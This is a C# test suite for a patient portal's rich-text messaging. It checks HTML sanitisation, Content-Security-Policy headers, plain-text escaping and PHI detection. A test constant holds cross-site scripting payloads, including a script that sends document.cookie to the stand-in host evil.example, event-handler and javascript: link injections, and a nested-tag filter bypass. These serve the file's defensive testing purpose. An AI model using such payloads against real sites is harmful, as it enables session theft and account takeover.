using System.Net;
using System.Text.RegularExpressions;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Portal.Grains.Audit;
using Portal.Grains.Identity;
using Portal.Grains.Patients;
using Portal.Messaging.Content;
using Portal.Messaging.Policy;
using Portal.Tests.Infrastructure;
using Portal.Data;

namespace Portal.Tests.Web;

/// <summary>Formatted message bodies: only the allowed markup is stored and shown; plain text keeps working.</summary>
[Collection(PortalCollection.Name)]
public sealed class RichTextMessageTests(PortalFactory portal)
{
    private const string Hostile =
        "<p>Your <b>plan</b> is <strong>ready</strong>.</p><script>document.location='https://evil.example/?'+document.cookie</script>"
        + "<img src=x onerror=\"alert(1)\"><p onmouseover=\"alert(2)\">Hover</p><a href=\"javascript:alert(3)\">Open</a>"
        + "<svg onload=\"alert(4)\"><circle r=\"1\"/></svg><p style=\"background:url(javascript:alert(5));width:expression(alert(6))\">Styled</p>"
        + "<scr<script>ipt>alert(7)</scr</script>ipt><iframe src=\"https://evil.example\"></iframe>"
        + "<ul><li>Walk daily</li></ul><a href=\"https://example.org/guide\">Guide</a>";

    private static readonly string[] Forbidden = ["<script", "onerror", "onmouseover", "javascript:", "<svg", "onload", "style=", "expression(", "<iframe", "evil.example"];

    /// <summary>Parsed as a browser would: only allowed elements and attributes, and links only to safe schemes.</summary>
    private static void AssertOnlyAllowedMarkup(string html)
    {
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument($"<body>{html}</body>");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, new[] { "p", "br", "strong", "em", "ul", "ol", "li", "a", "h3", "h4", "blockquote" });
            foreach (var attribute in element.Attributes)
                Assert.Contains(attribute.Name, new[] { "href", "rel" });
            if (element.GetAttribute("href") is { } href)
                Assert.Matches("^(https?:|mailto:)", href);
        }
    }

    [Fact]
    public async Task Script_handlers_and_dangerous_links_are_gone_from_what_is_stored_and_what_is_shown()
    {
        var staff = await portal.CreateStaffAsync();
        var patient = await portal.CreatePatientAsync(careTeam: staff.Id);
        using var staffClient = portal.NewClient();
        await staffClient.SignInAsync(staff);
        var sent = await staffClient.PostFormAsync($"/staff/patients/{patient.Id}/compose",
            new Dictionary<string, string> { ["Subject"] = "Your plan", ["Body"] = Hostile, ["Format"] = "Html", ["Sensitivity"] = "Phi" });
        Assert.Equal(HttpStatusCode.Redirect, sent.StatusCode);

        // What is stored (decrypted with the patient's key, as the grain reads it).
        var grain = portal.Services.GetRequiredService<IGrainFactory>().GetGrain<IPatientGrain>(patient.Id);
        var inbox = await grain.GetInboxAsync(new AuditActor(patient.Id, PortalRoles.Patient, null));
        var stored = Assert.Single(await grain.GetThreadAsync(inbox[0].ThreadId, new AuditActor(staff.Id, PortalRoles.Staff, null)));
        Assert.Equal(BodyFormat.Html, stored.Format);
        foreach (var bad in Forbidden)
            Assert.DoesNotContain(bad, stored.Body, StringComparison.OrdinalIgnoreCase);
        AssertOnlyAllowedMarkup(stored.Body);
        Assert.Contains("<strong>ready</strong>", stored.Body);
        Assert.Contains("<li>Walk daily</li>", stored.Body);
        Assert.Contains("<a href=\"https://example.org/guide\" rel=\"noopener noreferrer\">Guide</a>", stored.Body);

        // What is shown to the patient, under a policy that forbids inline script anyway.
        using var patientClient = portal.NewClient();
        await patientClient.SignInAsync(patient);
        var response = await patientClient.GetAsync($"/messages/{stored.MessageId}");
        var page = await response.Content.ReadAsStringAsync();
        var body = Regex.Match(page, "<div class=\"body rich\">(.*?)</div>", RegexOptions.Singleline);
        Assert.True(body.Success);
        foreach (var bad in Forbidden)
            Assert.DoesNotContain(bad, body.Groups[1].Value, StringComparison.OrdinalIgnoreCase);
        AssertOnlyAllowedMarkup(body.Groups[1].Value);
        Assert.Contains("<strong>ready</strong>", body.Groups[1].Value);
        var csp = Assert.Single(response.Headers.GetValues("Content-Security-Policy"));
        Assert.Contains("script-src 'self'", csp);
        Assert.DoesNotContain("unsafe-inline", csp);
    }

    [Fact]
    public async Task Markup_written_into_the_database_directly_is_still_sanitised_when_shown()
    {
        var staff = await portal.CreateStaffAsync();
        var patient = await portal.CreatePatientAsync(careTeam: staff.Id);
        var grain = portal.Services.GetRequiredService<IGrainFactory>().GetGrain<IPatientGrain>(patient.Id);
        var id = await grain.SendSecureMessageAsync(new NewSecureMessage("Note", "<p>Plain words</p>", Format: BodyFormat.Html), new AuditActor(staff.Id, PortalRoles.Staff, null));
        // A row changed behind the application's back (a restore, a bug elsewhere) must not become script on the page.
        var key = await portal.Services.GetRequiredService<Portal.Grains.Encryption.PatientKeyRing>().FindAsync(patient.Id);
        var cipher = key!.Seal(Portal.Grains.Encryption.PhiFields.MessageBody, id, "<p>Plain words</p><img src=x onerror=alert(1)><script>alert(2)</script>");
        await using (var db = await portal.Services.GetRequiredService<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync())
            await db.SecureMessages.Where(m => m.Id == id).ExecuteUpdateAsync(s => s.SetProperty(m => m.BodyCipher, cipher));

        using var patientClient = portal.NewClient();
        await patientClient.SignInAsync(patient);
        var page = await patientClient.GetPageAsync($"/messages/{id}");
        Assert.Contains("<p>Plain words</p>", page);
        Assert.DoesNotContain("onerror", page);
        Assert.DoesNotContain("alert(2)", page);
    }

    [Fact]
    public async Task Plain_text_messages_still_show_as_typed_with_markup_escaped()
    {
        var staff = await portal.CreateStaffAsync();
        var patient = await portal.CreatePatientAsync(careTeam: staff.Id);
        using var staffClient = portal.NewClient();
        await staffClient.SignInAsync(staff);
        await staffClient.PostFormAsync($"/staff/patients/{patient.Id}/compose",
            new Dictionary<string, string> { ["Subject"] = "Plain", ["Body"] = "Line one\n<b>not bold</b>", ["Sensitivity"] = "None" });
        using var patientClient = portal.NewClient();
        await patientClient.SignInAsync(patient);
        var id = Regex.Match(await patientClient.GetPageAsync("/messages"), "/messages/([0-9a-f-]{36})").Groups[1].Value;
        var page = await patientClient.GetPageAsync($"/messages/{id}");
        var shown = Regex.Match(page, "<div class=\"body[^\"]*\">(.*?)</div>", RegexOptions.Singleline);
        Assert.True(shown.Success);
        Assert.Contains("&lt;b&gt;not bold&lt;/b&gt;", shown.Groups[1].Value);
        Assert.Equal("Line one\n<b>not bold</b>", System.Net.WebUtility.HtmlDecode(shown.Groups[1].Value).ReplaceLineEndings("\n"));
    }

    [Theory]
    [InlineData("<p>Your H<strong></strong>IV test was negative.</p>", "letter.pdf")]
    [InlineData("<p>Please see the attached letter.</p>", "hiv-result.pdf")]
    public async Task The_phi_detector_reads_the_text_behind_the_markup_and_the_file_names(string html, string fileName)
    {
        var staff = await portal.CreateStaffAsync();
        var patient = await portal.CreatePatientAsync(careTeam: staff.Id);
        var grain = portal.Services.GetRequiredService<IGrainFactory>().GetGrain<IPatientGrain>(patient.Id);
        var id = await grain.SendSecureMessageAsync(new NewSecureMessage("A letter", html, Sensitivity.None, Format: BodyFormat.Html,
            Attachments: [new NewAttachment(fileName, "application/pdf", TestFiles.Pdf("Letter"))]), new AuditActor(staff.Id, PortalRoles.Staff, null));
        await using var db = await portal.Services.GetRequiredService<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync();
        var stored = await db.SecureMessages.SingleAsync(m => m.Id == id);
        Assert.Equal(Sensitivity.Restricted, stored.Sensitivity);
        Assert.Equal(DeliveryMethod.PortalPickup, stored.DeliveryMethod);
    }

    [Fact]
    public async Task Markup_with_no_words_is_an_empty_message()
    {
        var staff = await portal.CreateStaffAsync();
        var patient = await portal.CreatePatientAsync(careTeam: staff.Id);
        using var staffClient = portal.NewClient();
        await staffClient.SignInAsync(staff);
        var response = await staffClient.PostFormAsync($"/staff/patients/{patient.Id}/compose",
            new Dictionary<string, string> { ["Subject"] = "Empty", ["Body"] = "<script>alert(1)</script><p> </p>", ["Format"] = "Html" });
        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        Assert.Contains("Enter a message.", await response.Content.ReadAsStringAsync());
        await using var db = await portal.Services.GetRequiredService<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync();
        Assert.False(await db.SecureMessages.AnyAsync(m => m.PatientId == patient.Id));
    }
}
